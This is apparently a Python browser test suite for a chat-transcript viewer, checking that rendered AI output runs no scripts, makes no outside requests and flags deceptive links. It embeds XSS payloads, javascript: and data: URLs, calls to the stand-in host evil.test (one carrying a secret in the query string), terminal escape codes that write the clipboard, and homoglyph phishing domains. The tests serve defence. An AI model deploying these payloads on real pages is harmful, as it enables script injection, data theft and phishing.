"""Safe against everything that a model, a tool or a project writes: no request leaves, no script runs, nothing deceives."""

from __future__ import annotations

import json
from collections.abc import Callable

from tests.web.pages import Site, Tab, expect, until

HOSTILE = """<script>window.__ran = 1</script> <img src=x onerror="window.__ran = 2"> <svg onload="window.__ran = 3">
<style>body { background: url(http://evil.test/css) }</style> <iframe src="http://evil.test/frame"></iframe>
<a href="javascript:window.__ran=4">raw</a> <base href="http://evil.test/"> <meta http-equiv=refresh content="0;url=http://evil.test/">

[js](javascript:window.__ran=5) [data](data:text/html,<script>window.__ran=6</script>) [vb](vbscript:x) [file](file:///etc/passwd)

![image](http://evil.test/pixel.png?secret=1) ![data](data:image/svg+xml,<svg onload=alert(1)>) ![x][ref]

[ref]: http://evil.test/ref.png "title onerror=alert(1)"

[https://good.example/login](https://evil.test/steal) <http://evil.test/auto> http://evil.test/bare

`<b>code</b>` **<i>bold</i>** \u202edlrow\u202c \u200bhidden

```html
<script>window.__ran = 7</script>
```

|<script>1</script>|b|
|--|--|
|![](http://evil.test/cell)|2|
"""
ANSI = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.test/osc\x07link\x1b]8;;\x07 \x1b]52;c;c2VjcmV0\x07 \x1b[2J\x1b[Hgone \u202ereversed"


def test_a_hostile_transcript_runs_nothing_and_calls_nobody(site: Site, tab: Tab, midway: Callable[[], bool]) -> None:
    name = "<img src=x onerror=window.__ran=8>"
    (site.server.project / "evil.txt").write_text(ANSI)
    calls = [
        {"name": "bash", "input": {"command": f"cat evil.txt # {name}"}},
        {"name": name, "input": {name: name}},
        {"name": "view", "input": {"file_path": "evil.txt"}},
    ]
    tab.tell({"text": HOSTILE, "tools": calls}, {"text": HOSTILE}, about=HOSTILE)
    expect(tab.page.locator("article.assistant")).to_have_count(2)
    tab.idle()
    site.workspace.request("PUT", f"/sessions/{tab.session}", {"title": name})
    expect(tab.page.locator("#title")).to_contain_text("onerror")
    for details in tab.page.locator("details.card").all():
        details.evaluate("(node) => { node.open = true; }")
    midway()
    tab.page.reload()
    expect(tab.page.locator("article.assistant")).to_have_count(2)
    tab.drawn()
    assert tab.page.evaluate("window.__ran") is None
    assert not [url for url in tab.requests if "evil" in url]
    assert tab.page.locator("#log script, #log iframe, #log style, #log svg, #log base, #log meta").count() == 0
    assert tab.page.locator("#log img").count() == 0
    links = tab.page.evaluate("[...document.querySelectorAll('#log a')].map((a) => [a.protocol, a.rel, a.target])")
    assert links and all(link == ["http:", "noopener noreferrer", "_blank"] or link[0] == "https:" for link in links)
    assert not tab.page.evaluate(
        "[...document.querySelectorAll('#log *')].some((n) => [...n.attributes].some((a) => a.name.startsWith('on')))"
    )


def test_terminal_text_loses_everything_but_its_colours(site: Site, tab: Tab) -> None:
    pieces = tab.page.evaluate(
        """async (text) => { const base = document.querySelector('script[type=module]').src.replace('main.js', '');
             return (await import(base + 'text.js')).terminalPieces(text); }""",
        ANSI,
    )
    text = "".join(piece["text"] for piece in pieces)
    assert pieces[0] == {"text": "red", "classes": "ansi-red"}
    assert "evil" not in text and "c2VjcmV0" not in text and "\x1b" not in text and "\u202e" not in text
    assert "⟨U+202E⟩reversed" in text


def test_a_link_that_deceives_is_asked_about_first(site: Site, tab: Tab) -> None:
    long = "https://good.example/?q=" + "a" * 300
    tab.tell(
        {
            "text": f"[https://good.example/](https://evil.test/steal) and [plain]({long}) and [ok](https://good.example/)"
            " and [apple](https://аррle.example/) and <https://xn--80ak6aa92e.example/>"
        }
    )
    tab.sees("and https://xn--80ak6aa92e.example/")
    for number, doubt in (
        (0, "leads to evil.test"),
        (1, "very long"),
        (3, "look like others"),
        (4, "look like others"),
    ):
        tab.page.locator("article.assistant a").nth(number).click()
        expect(tab.page.locator("dialog")).to_contain_text(doubt)
        tab.page.get_by_role("button", name="Cancel").click()
    assert len(tab.context.pages) == 1
    assert "good.example" in (tab.page.locator("article.assistant a").nth(2).get_attribute("title") or "")


def test_an_address_is_shown_as_it_was_written_and_leads_where_the_browser_reads_it_to(site: Site, tab: Tab) -> None:
    tab.tell(
        {"text": r"[a](<https://good.example/b ä>) <https://good.example/%C3%A4> [c](https://good.example\evil.test/)"}
    )
    tab.sees("a https://good.example/%C3%A4 c", within="article.assistant")
    links = tab.page.locator("article.assistant a")
    assert [link.get_attribute("href") for link in links.all()] == [
        "https://good.example/b%20%C3%A4",
        "https://good.example/%C3%A4",
        "https://good.example/evil.test/",
    ]
    assert {link.get_attribute("data-host") for link in links.all()} == {"good.example"}


def test_a_policy_violation_does_not_go_unnoticed(site: Site) -> None:
    """The check at the end of every test sees it: here it is made to happen."""
    tab = site.let_in()
    tab.page.evaluate("(() => { const image = new Image(); image.src = 'http://evil.test/x.png'; })()")
    violations = "(window.__violations ?? []).length"
    until(lambda: tab.page.evaluate(violations) == 1)
    refused = tab.page.evaluate(
        """(() => { const tries = [() => { document.body.innerHTML = '<b>x</b>'; }, () => { document.body.insertAdjacentHTML('beforeend', 'x'); },
             () => { new DOMParser().parseFromString('x', 'text/html'); }, () => { document.createElement('script').src = '/x.js'; }];
             return tries.filter((each) => { try { each(); return false; } catch { return true; } }).length; })()"""
    )
    assert refused == 4
    site.tabs.remove(tab)


def test_the_token_is_in_no_address_and_no_page_of_another_port_reads_it(site: Site, tab: Tab) -> None:
    token = tab.page.evaluate("localStorage.getItem('covey:/:token')")
    assert len(token) >= 40
    assert not [url for url in tab.requests if token in url or "code=" in url.split("#")[0]]
    assert tab.page.evaluate("document.cookie") == ""
    assert token not in json.dumps(tab.context.cookies())
    assert "code=" not in tab.page.url
